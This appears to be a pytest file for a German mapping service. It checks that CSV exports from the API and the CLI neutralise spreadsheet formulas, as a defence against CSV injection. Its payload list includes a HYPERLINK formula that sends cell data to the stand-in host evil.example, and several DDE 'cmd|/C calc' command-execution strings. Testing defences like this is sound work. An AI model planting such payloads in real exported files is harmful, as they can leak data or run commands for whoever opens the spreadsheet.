"""CSV exports (API and CLI) never hand a spreadsheet a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mapservice.capture.exports import neutralise
from tests.capture_fixtures import Team, observation_body

PAYLOADS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")': "title",
    "=cmd|' /C calc'!A0": "title",
    "+1+cmd|' /C calc'!A0": "title",
    "-2+3+cmd|' /C calc'!A0": "title",
    "@SUM(1+1)*cmd|' /C calc'!A0": "title",
    "\tTab vorn": "description",
    "\r=1+1": "description",
}


@pytest.fixture(scope="module")
def formula_rows(live_server, team: Team) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """One observation per payload, plus one with a negative rating and "-5" as text."""
    import httpx

    ids: dict[str, str] = {}
    with httpx.Client(base_url=live_server.url) as http:
        for payload, field in PAYLOADS.items():
            body = observation_body(**{field: payload, "rating": -2})
            if field == "description":
                body["title"] = "Beschreibung mit Formel"
            response = http.post("/api/observations", json=body, headers=Team.auth(team.field))
            assert response.status_code == 201, response.text
            ids[response.json()["id"]] = payload
        plain = observation_body(title="Minus fünf", description="-5", rating=-1)
        response = http.post("/api/observations", json=plain, headers=Team.auth(team.field))
        assert response.status_code == 201
        ids[response.json()["id"]] = "-5"
    return ids


def _rows(data: bytes) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}


def _check(rows: dict[str, dict[str, str]], ids: dict[str, str]) -> None:
    for oid, payload in ids.items():
        row = rows[oid]
        if payload == "-5":  # a number written as text is not a formula
            assert row["description"] == "-5" and row["rating"] == "-1"
            continue
        field = PAYLOADS[payload]
        assert row[field] == "'" + payload, row
        assert row["rating"] == "-2"  # a real number stays a number
        assert not any(v.startswith(("=", "+", "@")) for v in row.values())


def test_api_csv_export_neutralises_formulas(http, team: Team, formula_rows: dict) -> None:  # type: ignore[no-untyped-def]
    response = http.get(
        f"/api/exports/{team.quarter}/mobilitaet.csv", headers=Team.auth(team.planner)
    )
    assert response.status_code == 200
    _check(_rows(response.content), formula_rows)


def test_cli_csv_export_neutralises_formulas(
    database_url: str, team: Team, formula_rows: dict, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    from mapservice.cli import app

    monkeypatch.setenv("KARTE_DATABASE_URL", database_url)
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(
        app, ["export", team.quarter, "--format", "csv", "--layer", "mobilitaet",
              "--out", str(out)],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    _check(_rows(out.read_bytes()), formula_rows)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+3,5", "+3,5"),
        ("-1.5e3", "-1.5e3"),
        ("-5 Grad", "'-5 Grad"),
        ("@", "'@"),
        ("Amtsstraße", "Amtsstraße"),
        ("", ""),
    ],
)
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected
